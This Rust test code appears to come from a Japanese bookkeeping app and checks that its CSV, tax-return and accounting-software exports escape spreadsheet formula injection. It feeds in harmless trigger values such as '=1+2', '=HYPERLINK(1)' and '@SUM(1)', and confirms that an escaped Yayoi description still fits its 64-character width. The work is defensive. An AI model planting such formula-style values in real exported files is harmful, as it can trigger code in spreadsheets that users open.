    check_writer("balance sheet", &text, &["@l"], true);
    let monthly = monthly_profit_and_loss(book, day("2026-01-01"));
    let text = monthly_profit_and_loss_csv(&monthly, book, Locale::Ja, &["h"; 3], &["l"; 3]);
    check_writer("monthly profit and loss", &text, &["=1+2"], true);
    let tax = tax_summary(book, january);
    let text = tax_summary_csv(
        &tax,
        book,
        |_| "=code".into(),
        |_| "-rule".into(),
        &["h"; 6],
        &["+l"; 6],
    );
    check_writer("tax summary", &text, &["+l", "-rule"], false);
    let ret = tax_return(&tax, Currency::JPY, &ReturnChoices::default()).unwrap();
    let text = tax_return_csv(
        &ret,
        |_| "=box".into(),
        &["h"; 4],
        &["+c"; 7],
        &[("-d".into(), "@v".into())],
    );
    check_writer("tax return", &text, &["=box", "+c", "-d", "@v"], false);
    let blue = blue_return(book, day("2026-01-01"));
    let text = blue_return_csv(&blue, book, Locale::Ja, &["=h"; 4]);
    check_writer("blue return", &text, &["=h"], true);
    let history = change_history(book, &HistoryQuery::default(), |ms| {
        chrono::DateTime::from_timestamp_millis(ms as i64)
            .unwrap()
            .naive_utc()
    });
    let text = change_history_csv(&history, book, Locale::Ja, &["h"; 6], |_| {
        ["=r".into(), "@c".into()]
    });
    check_writer("change history", &text, &["=r", "@c"], false);
    let stock = stock_ledger(book, day("2026-01-01"), day("2026-01-31"));
    let text = stock_ledger_csv(&stock, book, |_| "k".into(), "m", &["-h"; 11], ["o", "c"]);
    check_writer("stock ledger", &text, &["-h"], false);
    // Customer statements are written by the app through `write_rows`.
    let text = write_rows(&[vec!["=1+2".to_string(), "-500".to_string()]]);
    check_writer("customer statement", &text, &["=1+2"], true);

    // The accountant's formats.
    let mapping = export_mapping(book);
    let yayoi = yayoi_journal(book, january, &mapping).unwrap().bytes;
    let text = decode_text(&yayoi).unwrap().text;
    check_writer("yayoi", &text, &["=1+2", "=HYPERLINK(1)"], false);
    let mf = moneyforward_journal(book, january, &mapping).unwrap();
    let text = decode_text(&mf).unwrap().text;
    check_writer(
        "money forward",
        &text,
        &["=1+2", "=HYPERLINK(1)", "@SUM(1)"],
        false,
    );

    // Kura's own files: the journal (the partners and items writers share its
    // writer; see the import round trip above).
    let exported = export_journal(book, january, Locale::Ja, TextEncoding::ShiftJis).unwrap();
    let text = decode_text(&exported).unwrap().text;
    check_writer(
        "journal file",
        &text,
        &["=1+2", "=HYPERLINK(1)", "@SUM(1)", "-2+3"],
        false,
    );
}

/// Yayoi takes 64 half-width characters of description: the mark is one of them.
#[test]
fn a_marked_yayoi_description_still_fits_its_width() {
    let long = format!("={}", "x".repeat(80));
    let mut l = formula_ledger();
    l.add(&format!("2026-01-06 * {long}\n  雑費 100\n  現金 -100\n"));
    let period = Period::new(day("2026-01-01"), day("2026-01-31")).unwrap();
    let yayoi = yayoi_journal(&l.book, period, &export_mapping(&l.book))
        .unwrap()
        .bytes;
    let rows = raw_cells(&yayoi);
    let description = &rows.last().unwrap()[16];
    assert_eq!(description.len(), 64, "{description}");
    assert!(description.starts_with("'=x"));
}
